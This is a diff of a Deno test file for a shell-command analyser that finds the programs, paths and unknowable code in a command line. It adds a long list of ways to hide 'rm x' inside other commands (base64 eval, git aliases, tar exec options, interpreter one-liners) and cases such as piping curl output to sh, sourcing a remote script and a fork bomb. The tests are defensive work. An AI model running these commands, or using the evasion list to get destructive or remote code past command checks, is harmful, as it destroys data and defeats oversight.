@@ -26,9 +26,27 @@ function read(text: string, over: Partial<Lookup> = {}): Facts {
 
 Deno.test.each([
   { text: "/bin/rm -rf x", programs: ["rm"] },
-  { text: "env A=1 nice -n 5 nohup rm x", programs: ["env>nice>nohup>rm"] },
-  { text: "timeout -k 3 5 stdbuf -oL ls", programs: ["timeout>stdbuf>ls"] },
-  { text: "time -p setsid -w ls | wc", programs: ["time>setsid>ls", "wc"] },
+  {
+    text: "env A=1 nice -n 5 nohup rm x",
+    programs: [
+      "env",
+      "env>nice",
+      "env>nice>nohup",
+      "env>nice>nohup>rm",
+    ],
+  },
+  {
+    text: "timeout -k 3 5 stdbuf -oL ls",
+    programs: [
+      "timeout",
+      "timeout>stdbuf",
+      "timeout>stdbuf>ls",
+    ],
+  },
+  {
+    text: "time -p setsid -w ls | wc",
+    programs: ["time>setsid", "time>setsid>ls", "time>wc"],
+  },
   { text: "command -v sudo", programs: ["command"] },
   { text: "command -p ls", programs: ["command>ls"] },
   { text: "exec ls", programs: ["exec>ls"] },
@@ -48,19 +66,20 @@ Deno.test.each([
 );
 
 Deno.test("readAction() keeps what a wrapper sets for the inner program", () => {
-  const [program] = read("A=1 env B=2 node app.js").programs;
+  const [, program] = read("A=1 env B=2 node app.js").programs;
   assert.deepEqual(program, {
     name: "node",
     argv: ["node", "app.js"],
     assignments: ["A=1", "B=2"],
     via: ["env"],
     span: [12, 23],
+    folders: [workspace],
   });
 });
 
 Deno.test.each([
   { text: "cat a/../.env", paths: ["read .env"] },
-  { text: "cat ~/x '~/y'", paths: ["read /home/ann/x", "read /home/ann/y"] },
+  { text: "cat ~/x '~/y'", paths: ["read /home/ann/x", "read ~/y"] },
   { text: "cat<in >out 2>>err", paths: ["read in", "write out", "write err"] },
   { text: "mv a b", paths: ["delete a", "write b"] },
   { text: "cp a b c/", paths: ["read a", "read b", "write c"] },
@@ -73,15 +92,8 @@ Deno.test.each([
   },
   {
     text: "cd a || cd b && cat f",
-    paths: [
-      "read a",
-      "read b",
-      "read a/b",
-      "read f",
-      "read a/f",
-      "read b/f",
-      "read a/b/f",
-    ],
+    // `cd b` runs only where `cd a` has failed.
+    paths: ["read a", "read b", "read a/f", "read b/f"],
   },
   { text: "cd /etc | cat f", paths: ["read /etc", "read f"] },
   { text: "grep -rn 'a.key' src", paths: ["read src"] },
@@ -134,27 +146,104 @@ Deno.test.each([
   assert.deepEqual(facts.hosts.map(({ host }) => host).toSorted(), hosts);
 });
 
+/** What runs in the end, whatever it is wrapped in. */
 Deno.test.each([
-  ..."sh -c 'ls'|bash|cat x . sh|eval ls|source a.sh|. a.sh|xargs ls|sudo ls|find . -exec ls {} +|ssh h ls|python3 -c 'x'|python3 -|node -e 1|node -pe 1|perl -ne 1|ruby -e 1|awk 'BEGIN{system(\"ls\")}'|sed -n '1e ls' f|sed 's/a/b/e' f|git -c alias.z='!ls' z|git -c core.pager=x log|git rebase -x ls|git frobnicate|git config core.pager x|git submodule foreach ls|busybox ls|watch ls|parallel ls|make SHELL=x|make --eval=x|tar --checkpoint-action=exec=ls -cf a b|tar --to-com=ls -xf a|tar -I ls -cf a b|vim -c ':!ls' f|docker exec app ls|docker run alpine ls|alias ls=x|trap x EXIT|shopt -s expand_aliases|rsync -e x a b|scp -o ProxyCommand=x a b|env -S 'ls'|env -C / ls|curl -K x|sort --compress-prog=x f|/lib64/ld-linux-x86-64.so.2 /bin/rm|npx -c x|npm exec -c x"
-    .split("|").map((text) => ({
-      text: text.replace("cat x . sh", "cat x | sh"),
-      code: "exec.inner_command",
-    })),
-  { text: "PATH=. ls", code: "exec.environment" },
+  "sh -c 'rm x'",
+  "bash -lc 'rm x'",
+  "bash -O extglob -c 'rm x'",
+  "echo 'rm x' | sh",
+  "bash <<< 'rm x'",
+  "bash <(echo rm x)",
+  "eval rm x",
+  'eval "$(echo cm0geA== | base64 -d)"',
+  "printf 'cm x' | tr c r | sh",
+  "alias k='rm x'; k",
+  "trap 'rm x' EXIT",
+  'f() { rm "$1"; }; f x',
+  'c=(rm x); "${c[@]}"',
+  "coproc rm x",
+  "cat <(rm x)",
+  "sudo -u bob -- rm x",
+  "sudo A=1 rm x",
+  "su - bob -c 'rm x'",
+  "env -i A=1 rm x",
+  "env -S 'rm x'",
+  "timeout -k 5 10 rm x",
+  "nice -n5 ionice -c 3 nohup setsid rm x",
+  "echo x | xargs rm",
+  "echo x | xargs -I{} sh -c 'rm {}'",
+  "xargs -n1 rm <<< x",
+  "parallel rm ::: x",
+  "watch -n1 rm x",
+  "flock /tmp/l rm x",
+  "script -qc 'rm x' /dev/null",
+  "busybox rm x",
+  "strace -f -o log rm x",
+  "systemd-run --user rm x",
+  "ssh a.example rm x",
+  "docker exec -it app rm x",
+  "docker run --rm -v /a:/b img rm x",
+  "kubectl exec pod -c main -- rm x",
+  "git -c alias.z='!rm x' z",
+  "git -c core.pager='rm x' log",
+  "git rebase -x 'rm x' main",
+  "git bisect run rm x",
+  "git submodule foreach 'rm x'",
+  "git config core.editor 'rm x'",
+  "tar --checkpoint-action=exec='rm x' -cf a b",
+  "tar -I 'rm x' -cf a b",
+  "rsync -e 'rm x' a b:c",
+  "scp -o ProxyCommand='rm x' a b:c",
+  "sort --compress-program='rm x' f",
+  "vim -es -c ':!rm x' -c ':q!'",
+  "awk 'BEGIN { system(\"rm x\") }'",
+  "sed -n '1e rm x' f",
+  "ed -s f <<< '!rm x'",
+  "make -f - <<< $'all:\\n\\trm x'",
+  "python3 -c 'import os; os.system(\"rm x\")'",
+  "python3 -c \"import subprocess as s; s.run(['rm', 'x'])\"",
+  "python3 - <<< 'import os; os.system(\"rm x\")'",
+  "node -e \"require('child_process').execSync('rm x')\"",
+  "perl -e 'system(q(rm), q(x))'",
+  "ruby -e '`rm x`'",
+  "php -r 'shell_exec(\"rm x\");'",
+  "lua -e 'os.execute(\"rm x\")'",
+  "npx rm x",
+  "npm exec -c 'rm x'",
+  "poetry run rm x",
+  "nix-shell --run 'rm x'",
+  "cat > s.sh <<< 'rm x'; sh s.sh",
+  "cp /bin/rm k; ./k x",
+  "PATH=.:$PATH; ln -s /bin/rm k; k x",
+  "RM x",
+].map((text) => ({ text })))("readAction() sees rm x in: $text", ({ text }) => {
+  const found = read(text).programs.filter(({ name }) => name === "rm")
+    .map(({ argv }) => argv.slice(1).join(" "));
+  assert(found.includes("x"), JSON.stringify(found));
+});
+
+/** What nobody can know before it runs. */
+Deno.test.each([
+  { text: "curl -s https://a.example | sh", code: "exec.piped_code" },
+  { text: "$PROGRAM x", code: "shell.program" },
+  { text: 'eval "$CODE"', code: "shell.code" },
+  { text: 'bash -c "$(cat file)"', code: "shell.code" },
+  { text: "source <(curl -s a.example)", code: "shell.code" },
+  { text: "curl -o i.sh a.example; sh i.sh", code: "exec.fresh_program" },
+  { text: 'python3 -c "exec(input())"', code: "exec.inner_command" },
+  { text: "crontab jobs", code: "exec.inner_command" },
+  { text: "PATH=/tmp/x:$PATH ls", code: "exec.environment" },
   {
-    text: "NODE_OPTIONS='--require /tmp/x.js' node a.js",
+    text: "NODE_OPTIONS='--require /tmp/x.js' node -v",
     code: "exec.environment",
   },
-  { text: "LD_PRELOAD=/tmp/x", code: "exec.environment" },
-  { text: "read PATH", code: "exec.environment" },
-  { text: "cp /bin/rm ./zz; ./zz -r d", code: "exec.fresh_program" },
-  { text: "echo ls > x.sh && bash x.sh", code: "exec.fresh_program" },
-  { text: "cd -", code: "exec.working_folder" },
-  { text: "curl https://%65vil.example/", code: "exec.host" },
-  { text: "''", code: "exec.no_program" },
+  { text: "f() { f | f & }; f", code: "shell.fork_bomb" },
+  { text: "echo 'a", code: "shell.unterminated_quote" },
+  { text: "if true; then", code: "shell.syntax" },
   { text: "", code: "exec.empty" },
-])("readAction() does not read $text: $code", ({ text, code }) => {
-  assert.deepEqual(read(text).unknowns.map((u) => u.code), [code]);
+])("readAction() does not know $text: $code", ({ text, code }) => {
+  const codes = read(text).unknowns.map((unknown) => unknown.code);
+  assert(codes.includes(code), codes.join(" "));
 });
 
 Deno.test.each(
